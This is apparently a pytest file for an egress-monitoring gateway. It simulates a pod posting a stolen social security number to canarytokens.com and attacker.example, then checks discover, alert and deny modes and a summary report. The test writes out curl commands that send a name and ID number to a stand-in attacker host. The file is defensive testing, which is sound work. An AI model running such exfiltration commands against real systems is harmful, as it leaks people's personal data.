"""The first five minutes: a pod posts stolen social security numbers, and what its security team sees of it."""

import csv
import io
import json

from gateway import SSN_SENSOR, body_of
from net import ATTACKER, CANARY, POD, POD_DH157, Tcpdump

NUMBER = "295109912611193"


def post(world, host="canarytokens.com", number=NUMBER, source=POD):
    return world.curl("-d", f"name=Jeanne+Moreau&nir={number}&end=1", f"http://{host}/stuff/collect", source=source)


def test_the_story(world, weir, nginx, tmp_path):
    # 1. Nothing configured: Discover reports the session, the name and the bytes.
    gateway = weir("")
    assert body_of(post(world)) == (200, "collected\n")
    session = gateway.sessions(fqdn="canarytokens.com")[0]
    assert session["service"] == "myapp.default"
    assert session["pod"] == "myapp-7d9c"
    assert session["mode"] == "discover"
    assert session["action"] == "allow"
    assert session["would"] == "deny"
    assert session["application"] == "HTTP"
    assert session["destination"] == f"{CANARY}:80"
    assert session["client"].startswith(POD + ":")
    assert session["method"] == "POST"
    assert session["path"] == "/stuff/collect"
    assert session["status"] == 200
    assert session["named_by"] == "host"
    assert session["bytes_out"] > 40 and session["bytes_in"] > 10
    assert session["listener"] == "egress"
    assert session.get("findings", []) == []

    # 2. The sensor alerts: the post goes through and the event names a masked match.
    gateway.reload(SSN_SENSOR + """
services:
  - {name: myapp.default, mode: monitor, sensors: {nir: alert}, rules: [{to: any, action: allow}]}
""")
    assert body_of(post(world)) == (200, "collected\n")
    event = gateway.events(kind="finding", service="myapp.default")[0]
    finding = event["finding"]
    assert finding["sensor"] == "nir"
    assert finding["context"] == "body"
    assert finding["action"] == "alert"
    assert finding["offset"] == len("name=Jeanne+Moreau&nir=")
    assert finding["match"] == "2*************3"
    assert event["pod"] == "myapp-7d9c" and event["fqdn"] == "canarytokens.com" and event["path"] == "/stuff/collect"
    assert event["action"] == "alert"
    assert NUMBER in nginx.log()
    assert NUMBER not in json.dumps(gateway.lines("events") + gateway.lines("sessions"))

    # 3. Protect denies: a clear 403, and not one byte of the number outside.
    gateway.reload(SSN_SENSOR + """
services:
  - {name: myapp.default, mode: protect, sensors: {nir: deny}, rules: [{to: any, action: allow}]}
""")
    log = nginx.log()
    dump = Tcpdump(world, tmp_path / "outside.pcap")
    stolen = "186027512345678"
    for host in ("canarytokens.com", "attacker.example"):
        denied = world.run("pods", [
            "curl", "-sS", "-i", "--interface", POD, "-H", "content-type: text/csv",
            "-d", f"name=Jeanne&nir={stolen}", f"http://{host}/stuff/collect"])
        assert "HTTP/1.1 403" in denied.stdout
        assert "application/problem+json" in denied.stdout
        problem = json.loads(denied.stdout.split("\n\n", 1)[1])
        assert problem["status"] == 403
        assert problem["reason"] == "finding"
        assert stolen not in denied.stdout
    capture = dump.stop()
    assert stolen.encode() not in capture
    assert nginx.log() == log, "the outside host saw a request"
    assert b"POST /stuff" not in capture
    event = gateway.events(2, kind="finding", action="deny")[-1]
    assert event["finding"]["action"] == "deny"
    assert gateway.sessions(2, action="deny")[-1]["bytes_before_verdict"] == 0
    # The event that the client was told of is the one in the records.
    assert any(event["id"] in str(problem.values()) for event in gateway.events(2, action="deny"))


def test_the_report(world, weir, nginx):
    gateway = weir("""
services:
  - {name: dh157.default, mode: monitor, rules: []}
""")
    for _ in range(3):
        assert body_of(post(world, source=POD_DH157)) == (200, "collected\n")
    assert body_of(world.curl(f"http://{ATTACKER}/", source=POD)) == (200, "hello\n")
    gateway.sessions(4)
    table = gateway.command("report", "-c", gateway.path).stdout
    header, *rows = [line for line in table.splitlines() if line.strip() and set(line) - set("|-+─ ┼│")]
    for column in ("Service", "Pods", "Policy Mode", "External Host (IP)", "External Host (FQDN)", "Sessions",
                   "Applications", "Action"):
        assert column in header
    row = [cell.strip() for cell in next(row for row in rows if "canarytokens.com" in row).strip("|").split("|")]
    assert row == ["dh157.default", "1", "Monitor", CANARY, "canarytokens.com", "3", "HTTP", "Alert"]
    row = [cell.strip() for cell in next(row for row in rows if "myapp.default" in row).strip("|").split("|")]
    assert row[:3] == ["myapp.default", "1", "Discover"] and row[3] == ATTACKER and row[5:] == ["1", "HTTP", "Allow"]

    lines = list(csv.DictReader(io.StringIO(gateway.command("report", "--format", "csv", "-c", gateway.path).stdout)))
    assert len(lines) == 2
    assert any("canarytokens.com" in line.values() and "dh157.default" in line.values() for line in lines)
    assert "canarytokens.com" in json.dumps(json.loads(
        gateway.command("report", "--format", "json", "-c", gateway.path).stdout))
